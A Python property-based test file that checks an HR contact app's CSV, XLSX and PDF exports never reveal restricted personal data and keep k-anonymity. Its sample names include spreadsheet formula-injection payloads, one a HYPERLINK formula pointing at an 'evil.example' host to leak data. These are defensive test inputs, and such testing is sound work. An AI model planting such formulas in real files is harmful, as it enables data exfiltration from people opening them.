"""No export leaks what its audience may not see: a property test over random populations.

Every file is written by the real service and parsed back with a real reader (csv, openpyxl,
pypdf). Who may be named is computed here from DATA.md's table, not taken from the policy's
own decisions, so a policy bug cannot vouch for itself.
"""

from __future__ import annotations

import csv
import getpass
import io
import re
import zipfile
from collections import Counter
from dataclasses import dataclass
from datetime import date
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from pypdf import PdfReader

from bizhr_desktop.core.countries import region_of
from bizhr_desktop.core.models import Audience, Person, RiskLevel, StakeholderGroup, new_id
from bizhr_desktop.core.policy import DEFAULT_K
from bizhr_desktop.services import exporting
from bizhr_desktop.services.exporting import ExportFormat, ExportRequest, ExportScope
from bizhr_desktop.services.people import PeopleService
from bizhr_desktop.services.vaults import VaultSession

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
AUDIENCES = (Audience.PUBLIC, Audience.VENUE, Audience.COORGANISERS)
CEILING = {Audience.PUBLIC: RiskLevel.LOW, Audience.VENUE: RiskLevel.MEDIUM,
           Audience.COORGANISERS: RiskLevel.MEDIUM}  # fmt: skip
CONSENT = {Audience.PUBLIC: "consent_public", Audience.VENUE: "consent_coorganisers",
           Audience.COORGANISERS: "consent_coorganisers"}  # fmt: skip
# Countries chosen so that regions are shared (KE, UG: Eastern Africa) and cells of k form.
COUNTRIES = ("KE", "UG", "SD", "MM", "CO", "")
BASE_NAMES = (
    "Amina Diallo",
    "محمد عبد الله",
    "أمينة المثال",
    "အောင်ဆန်း",
    "ဒေါ်ခင်မာ",
    "José Pérez",
    '=HYPERLINK("http://evil.example/?leak","click")',
    "+SUM(A1:A9)",
    "-2+3 Person",
    "@cmd Person",
    "\tTabbed Person",
)


@dataclass(frozen=True)
class Spec:
    base: str
    group: StakeholderGroup
    country: str
    risk: RiskLevel
    consents: tuple[bool, bool, bool]
    email: bool


specs = st.builds(
    Spec,
    base=st.sampled_from(BASE_NAMES),
    group=st.sampled_from(
        [StakeholderGroup.HRD, StakeholderGroup.CIVIL_SOCIETY, StakeholderGroup.BUSINESS]
    ),
    country=st.sampled_from(COUNTRIES),
    risk=st.sampled_from(list(RiskLevel)),
    consents=st.tuples(st.booleans(), st.booleans(), st.booleans()),
    email=st.booleans(),
)
populations = st.lists(specs, min_size=0, max_size=18)


def _store(session: VaultSession, population: list[Spec]) -> list[Person]:
    db = session.vault.db
    with db.transaction():
        for table in ("person_tag", "contact_log", "invitation", "person", "organisation"):
            db.execute(f"DELETE FROM {table}")
        db.execute("INSERT INTO person_fts (person_fts) VALUES ('delete-all')")
    people = PeopleService(db, session.vault.audit)
    stored = []
    for index, spec in enumerate(population):
        # Fixed-width tokens: no name, address or canary is a substring of another's.
        tag = f"K{index:03d}Z"
        stored.append(
            people.add(
                Person(
                    id=new_id(),
                    full_name=f"{spec.base} {tag}",
                    stakeholder_group=spec.group,
                    risk_level=spec.risk,
                    country=spec.country,
                    organisation=f"Org {tag}",
                    role=f"Role{tag}",
                    email=f"mail{tag.lower()}@example.org" if spec.email else "",
                    phone=f"+41 79 555 {index:02d} {index % 10}{(index * 7) % 10}",
                    secure_channel=f"SecureChannelCanary{tag}",
                    notes=f"NotesCanary{tag} arrested last week",
                    tags=(f"TagCanary{tag}",),
                    consent_network=spec.consents[0],
                    consent_coorganisers=spec.consents[1],
                    consent_public=spec.consents[2],
                    consent_date=date.today(),
                    consent_method="signed form",
                )
            )
        )
    return stored


def _may_be_named(person: Person, audience: Audience) -> bool:
    return bool(getattr(person, CONSENT[audience])) and person.risk_level <= CEILING[audience]


def _cells(path: Path, fmt: ExportFormat) -> list[list[str]]:
    if fmt is ExportFormat.CSV:
        return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
    # Every cell must be text; one that looks like a formula must carry the quote-prefix
    # style (shown as text, and kept text on edit): read back with the ' it stands for.
    book = load_workbook(path)
    cells: list[list[str]] = []
    for row in book.worksheets[0].iter_rows():
        cells.append([])
        for cell in row:
            value = "" if cell.value is None else str(cell.value)
            assert cell.data_type == "s" or not value, (cell.coordinate, cell.data_type)
            cells[-1].append("'" + value if cell.quotePrefix else value)
    return cells


def _check_no_leak(text: str, people: list[Person], audience: Audience) -> None:
    for person in people:
        assert person.notes not in text
        assert person.tags[0] not in text
        assert person.secure_channel not in text
        assert person.phone not in text and person.phone[3:] not in text
        if not _may_be_named(person, audience):
            for value in (person.full_name, person.organisation, person.role):
                assert value not in text, (audience, value)
            if person.email:
                assert person.email not in text
        elif person.email and audience is not Audience.COORGANISERS:
            assert person.email not in text


def _check_table(cells: list[list[str]], people: list[Person], audience: Audience) -> None:
    # An XLSX prints headings in words ("Name"): read them back as the file's columns.
    words = exporting.ListWords()
    columns = {heading: name for name, heading in words.headings.items()}
    header = [columns.get(cell, cell) for cell in cells[0]]
    assert not {"notes", "risk_level", "tags", "secure_channel", "phone"} & set(header)
    assert not any(h.startswith("consent") for h in header)
    for row in cells:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
            assert cell.strip().lower() not in {"low", "medium", "high", "critical"}
    # k-anonymity of the pseudonymised rows: every (group, region) shown has k or more.
    name, pseudonym = header.index("full_name"), header.index("pseudonym")
    group, region = header.index("stakeholder_group"), header.index("region")
    cellsizes = Counter(
        (row[group], row[region])
        for row in cells[1:]
        if len(row) > region and not row[name] and row[pseudonym]
    )
    assert all(size >= DEFAULT_K for size in cellsizes.values()), cellsizes
    # A pseudonymised row never carries a name, organisation, role or country.
    for row in cells[1:]:
        if len(row) > region and row[pseudonym]:
            assert row[name] == "" and row[header.index("organisation")] == ""
            assert row[header.index("country")] == ""
    # Every named row belongs to someone who may be named.
    allowed = {p.full_name for p in people if _may_be_named(p, audience)}
    for row in cells[1:]:
        if len(row) > name and row[name] and row[group]:
            assert row[name].removeprefix("'") in allowed


def _check_xlsx_metadata(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        core = archive.read("docProps/core.xml").decode()
        assert not re.search(r"<dc:creator>[^<]+</dc:creator>", core)
        assert not re.search(r"<cp:lastModifiedBy>[^<]+</cp:lastModifiedBy>", core)
        user = getpass.getuser()
        for entry in archive.namelist():
            if entry.startswith("docProps/"):
                assert user not in archive.read(entry).decode()


def _export(session: VaultSession, audience: Audience, fmt: ExportFormat, out: Path) -> Path:
    request = ExportRequest(scope=ExportScope.everyone(), audience=audience, format=fmt)
    target = out / f"{audience.value}.{fmt.value}"
    exporting.write(session, exporting.preview(session, request), target, overwrite=True)
    return target


def _run(session: VaultSession, tmp_path: Path, population: list[Spec], fmt: ExportFormat) -> None:
    people = _store(session, population)
    for audience in AUDIENCES:
        path = _export(session, audience, fmt, tmp_path)
        if fmt is ExportFormat.PDF:
            reader = PdfReader(path)
            meta = reader.metadata or {}
            assert not meta.get("/Author") and not meta.get("/Creator")
            text = "\n".join(page.extract_text() for page in reader.pages)
            _check_no_leak(text, people, audience)
            assert not re.search(r"\b(low|medium|high|critical)\b", text)
            continue
        cells = _cells(path, fmt)
        flat = "\n".join("\x1f".join(row) for row in cells)
        _check_no_leak(flat, people, audience)
        _check_table(cells, people, audience)
        # And the list is useful: everyone who may be named is.
        for person in people:
            if _may_be_named(person, audience):
                assert person.full_name in flat
        if fmt is ExportFormat.XLSX:
            _check_xlsx_metadata(path)
        # Every person is accounted for exactly once: a row or a count line. A count below k
        # reads "fewer than 3" (1 or 2 people), never the number.
        rows = [r for r in cells[1:] if len(r) > 2 and r[2]]
        counted = sum(
            int(m.group(1))
            for r in cells[1:]
            if (m := re.match(r"(?:.*: )?(\d+)(?: further|$)", r[0])) and not r[2]
        )
        below_k = sum(1 for r in cells[1:] if "fewer than 3" in r[0] and not r[2])
        assert len(rows) + counted + below_k <= len(people) <= len(rows) + counted + 2 * below_k
        assert not any(re.match(r"(?:.*: )?[12](?: further|$)", r[0]) for r in cells[1:])


_SETTINGS = settings(
    max_examples=25,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@_SETTINGS
@given(population=populations)
def test_csv_exports_leak_nothing(
    session: VaultSession, tmp_path: Path, population: list[Spec]
) -> None:
    _run(session, tmp_path, population, ExportFormat.CSV)


@_SETTINGS
@given(population=populations)
def test_xlsx_exports_leak_nothing(
    session: VaultSession, tmp_path: Path, population: list[Spec]
) -> None:
    _run(session, tmp_path, population, ExportFormat.XLSX)


@settings(_SETTINGS, max_examples=12)
@given(population=populations)
def test_pdf_exports_leak_nothing(
    session: VaultSession, tmp_path: Path, population: list[Spec]
) -> None:
    _run(session, tmp_path, population, ExportFormat.PDF)


def test_region_of_shared_cells_is_what_the_generator_expects() -> None:
    # The generator relies on KE and UG sharing a region, so pseudonymised cells do form.
    assert region_of("KE") == region_of("UG")
